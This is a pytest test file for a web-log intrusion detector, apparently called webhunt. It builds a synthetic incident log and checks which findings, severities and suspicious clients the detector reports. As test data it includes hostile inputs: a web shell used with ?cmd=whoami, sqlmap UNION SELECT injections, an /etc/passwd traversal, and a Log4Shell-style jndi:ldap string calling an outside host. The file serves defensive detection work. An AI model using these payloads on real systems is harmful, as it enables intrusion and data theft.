"""Aggregate log-only detections over an incident with a known answer."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from webhunt.logs.detections import LogDetector, detect_log_findings, script_path
from webhunt.logs.indicators import Indicators, load_indicators
from webhunt.logs.reader import LogReader
from webhunt.model import FindingKind, Language, Request, Severity
from webhunt.store import open_store

START = datetime(2024, 3, 1, 9, tzinfo=UTC)
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0"
ATTACKER = "203.0.113.66"
SCANNER = "198.51.100.200"
ADMIN = "192.0.2.10"
SHELL = "/wp-content/uploads/2024/03/x.php"


@pytest.fixture(scope="module")
def indicators() -> Indicators:
    return load_indicators()


class Log:
    def __init__(self) -> None:
        self.requests: list[Request] = []

    def add(
        self,
        ip: str,
        method: str,
        target: str,
        status: int = 200,
        ua: str = BROWSER,
    ) -> None:
        path, _, query = target.partition("?")
        n = len(self.requests) + 1
        self.requests.append(
            Request(START + timedelta(seconds=10 * n), ip, method, path, query, status, 500, "",
                    ua, "", "HTTP/1.1", "access.log", "sid", n)
        )  # fmt: skip


def incident() -> list[Request]:
    log = Log()
    for i in range(1, 31):  # a normal site: 30 visitors
        ip = f"198.51.100.{i}"
        log.add(ip, "GET", "/index.php")
        log.add(ip, "GET", "/wp-content/themes/shop/style.css?ver=6.4.3")
        log.add(ip, "GET", "/about.php" if i % 2 else "/product.php?id=7")
    for _ in range(4):
        log.add(ADMIN, "GET", "/wp-admin/options.php")  # one admin: a rare, benign script
    # the attacker: reconnaissance, upload, shell use, a shell deleted since
    log.add(ATTACKER, "GET", "/.env", 404)
    log.add(ATTACKER, "GET", "/c99.php", 404)
    log.add(ATTACKER, "POST", "/wp-admin/upload.php")
    for _ in range(5):
        log.add(ATTACKER, "POST", SHELL)
    log.add(ATTACKER, "GET", SHELL + "?cmd=whoami")
    log.add(ATTACKER, "POST", "/old/wso.php")
    log.add(ATTACKER, "POST", "/old/wso.php")
    # a SQL injection tool against a real page, a scanner probing for shells
    for n in range(3):
        log.add(SCANNER, "GET", f"/product.php?id=7%20UNION%20SELECT%20{n},2,3", 200,
                "sqlmap/1.7.2#stable (https://sqlmap.org)")  # fmt: skip
    for name in ("shell.php", "cmd.php", "wso.php"):
        log.add("192.0.2.99", "GET", f"/{name}", 404, "Mozilla/5.00 (Nikto/2.5.0)")
    return log.requests


KNOWN = [
    "index.php",
    "about.php",
    "product.php",
    "wp-admin/options.php",
    "wp-admin/upload.php",
    SHELL.lstrip("/"),  # the live shell is on disk
]


def test_incident(indicators: Indicators) -> None:
    findings = detect_log_findings(incident(), indicators, known_paths=KNOWN, host="web1")
    by_path = {f.path: f for f in findings}
    assert set(by_path) == {SHELL, "/old/wso.php", "/product.php", "/wp-admin/options.php"}
    for f in findings:
        assert (f.kind, f.host, f.sha256, f.relpath) == (FindingKind.LOG, "web1", "", f.path[1:])

    shell = by_path[SHELL]
    assert shell.severity is Severity.CRITICAL and shell.language is Language.PHP
    assert [r.id for r in shell.reasons] == [
        "WH-LOG-PARAM-001",
        "WH-LOG-AGG-002",
        "WH-LOG-AGG-001",
        "WH-LOG-PARAM-002",
    ]
    upload = shell.reasons[1]
    assert "5 of 6 successful requests are POSTs, from 1 client: 203.0.113.66" in upload.description
    assert upload.snippet.startswith("access.log:")
    assert f"{ATTACKER} POST {SHELL} 200" in upload.snippet
    assert ATTACKER in shell.reasons[0].description

    deleted = by_path["/old/wso.php"]
    assert {r.id for r in deleted.reasons} == {"WH-LOG-AGG-003", "WH-LOG-SHELL-001"}
    assert deleted.severity >= Severity.HIGH
    assert all(ATTACKER in r.description for r in deleted.reasons)

    sqli = by_path["/product.php"]
    assert {r.id for r in sqli.reasons} == {"WH-LOG-SQLI-001", "WH-LOG-UA-001"}
    assert all(SCANNER in r.description for r in sqli.reasons)

    # a script only the admin uses is a hint, never a detection on its own
    admin = by_path["/wp-admin/options.php"]
    assert [r.id for r in admin.reasons] == ["WH-LOG-AGG-001"]
    assert admin.severity is Severity.LOW

    # benign visitors are named nowhere; 404 probes planted nothing
    text = " ".join(r.description + r.snippet for f in findings for r in f.reasons)
    assert "198.51.100.1 " not in text and "198.51.100.1," not in text
    assert "/c99.php" not in by_path and "/shell.php" not in by_path


def test_without_known_paths_there_is_no_deleted_shell_reason(indicators: Indicators) -> None:
    findings = detect_log_findings(incident(), indicators)
    assert all(r.id != "WH-LOG-AGG-003" for f in findings for r in f.reasons)


def test_suspicious_clients_and_hit_counts(indicators: Indicators) -> None:
    detector = LogDetector(indicators, known_paths=KNOWN)
    passed = list(detector.observe(incident()))
    assert passed == incident()  # observe hands every request on, unchanged
    top = detector.suspicious_clients(3)
    # summed scores of distinct indicators: 20+60+80+30, 35+45+60, 65+60
    assert [(ip, score) for ip, score, _ in top] == [
        (ATTACKER, 190),
        ("192.0.2.99", 140),
        (SCANNER, 125),
    ]
    assert top[0][2] == {
        "WH-LOG-PROBE-001": 1,
        "WH-LOG-SHELL-001": 3,
        "WH-LOG-PARAM-001": 1,
        "WH-LOG-PARAM-002": 1,
    }
    assert detector.hit_counts["WH-LOG-UA-001"] == 3
    assert detector.requests_seen == len(passed)


def test_rare_clients_needs_a_busy_site(indicators: Indicators) -> None:
    log = Log()
    for _ in range(5):
        log.add(ATTACKER, "GET", "/tool.php")
    assert detect_log_findings(log.requests, indicators) == []  # one client on the whole site


def test_memory_is_bounded(indicators: Indicators) -> None:
    detector = LogDetector(indicators, max_paths=2, max_clients=1)
    for request in incident():
        detector.feed(request)
    assert len(detector.findings()) <= 2
    assert detector.dropped_paths > 0
    assert len(detector.suspicious_clients()) == 1


@pytest.mark.parametrize(
    ("url_path", "script"),
    [
        ("/index.php", "/index.php"),
        ("/index.php/blog/2024/hello", "/index.php"),
        ("/up/x.asp;.jpg", "/up/x.asp"),
        ("/a//b/./../c/shell%2Ephp", "/a/c/shell.php"),
        ("/app/Login.aspx", "/app/Login.aspx"),
        ("/style.css", None),
        ("/", None),
        ("/blog/hello-world", None),
        ("*", None),
        ("/cgi-bin/test.cgi", "/cgi-bin/test.cgi"),
        ("/cgi-bin/report.pl", "/cgi-bin/report.pl"),
        ("/data/test.cgi", "/data/test.cgi"),  # .cgi runs anywhere (AddHandler cgi-script .cgi)
        ("/data/report.pl", None),  # .pl only under cgi-bin
    ],
)
def test_script_path(url_path: str, script: str | None) -> None:
    assert script_path(url_path) == script


def test_attacks_on_paths_that_are_not_scripts(indicators: Indicators) -> None:
    log = Log()
    log.add(SCANNER, "GET", "/search?q=1%20UNION%20SELECT%20password%20FROM%20users")  # 200
    log.add(SCANNER, "GET", "/static/../../etc/passwd", 404)  # refused: nothing
    log.add(SCANNER, "GET", "//search/./", 500, "${jndi:ldap://198.51.100.9/a}")  # error: counts
    findings = detect_log_findings(log.requests, indicators)
    assert [(f.path, f.language, sorted(r.id for r in f.reasons)) for f in findings] == [
        ("/search", Language.OTHER, ["WH-LOG-CMDI-002", "WH-LOG-SQLI-001"]),
    ]


def combined_line(r: Request) -> str:
    when = r.time.strftime("%d/%b/%Y:%H:%M:%S +0000")
    return f'{r.client_ip} - - [{when}] "{r.method} {r.target} {r.protocol}" {r.status} {r.bytes_sent} "-" "{r.user_agent}"\n'


def detector_state(detector: LogDetector) -> tuple[object, ...]:
    findings = [(f.path, f.severity, f.score, [(r.id, r.description, r.snippet) for r in f.reasons])
                for f in detector.findings()]  # fmt: skip
    return findings, detector.requests_seen, dict(detector.hit_counts), detector.suspicious_clients()


@pytest.mark.parametrize("parallel", [False, True])
def test_a_detector_watching_a_store_ingest_sees_what_it_would_see_fed_requests(
    indicators: Indicators, tmp_path: Path, parallel: bool
) -> None:
    """``webhunt logs`` lets the detector look at the rows where they are parsed (in the reading
    process when parallel) and takes its state back at the end: same findings, counts, clients."""
    log = tmp_path / "access.log"
    log.write_text("".join(combined_line(r) for r in incident()))
    reference = LogDetector(indicators, known_paths=KNOWN, host="web1")
    for request in LogReader([str(log)]):
        reference.feed(request)
    assert reference.findings() and reference.requests_seen == len(incident())

    watching = LogDetector(indicators, known_paths=KNOWN, host="web1")
    with open_store(f"sqlite:///{tmp_path / 'store.db'}", host="web1") as store:
        stored = store.add_requests(watching.watching(LogReader([str(log)], parallel=parallel)))
    assert stored == len(incident())
    assert detector_state(watching) == detector_state(reference)

    alone = LogDetector(indicators, known_paths=KNOWN, host="web1")
    alone.watching(LogReader([str(log)], parallel=parallel)).run()  # no store: `webhunt logs --no-store`
    assert detector_state(alone) == detector_state(reference)
    observed = LogDetector(indicators, known_paths=KNOWN, host="web1")
    assert len(list(observed.watching(LogReader([str(log)], parallel=parallel)))) == len(incident())
    assert detector_state(observed) == detector_state(reference)
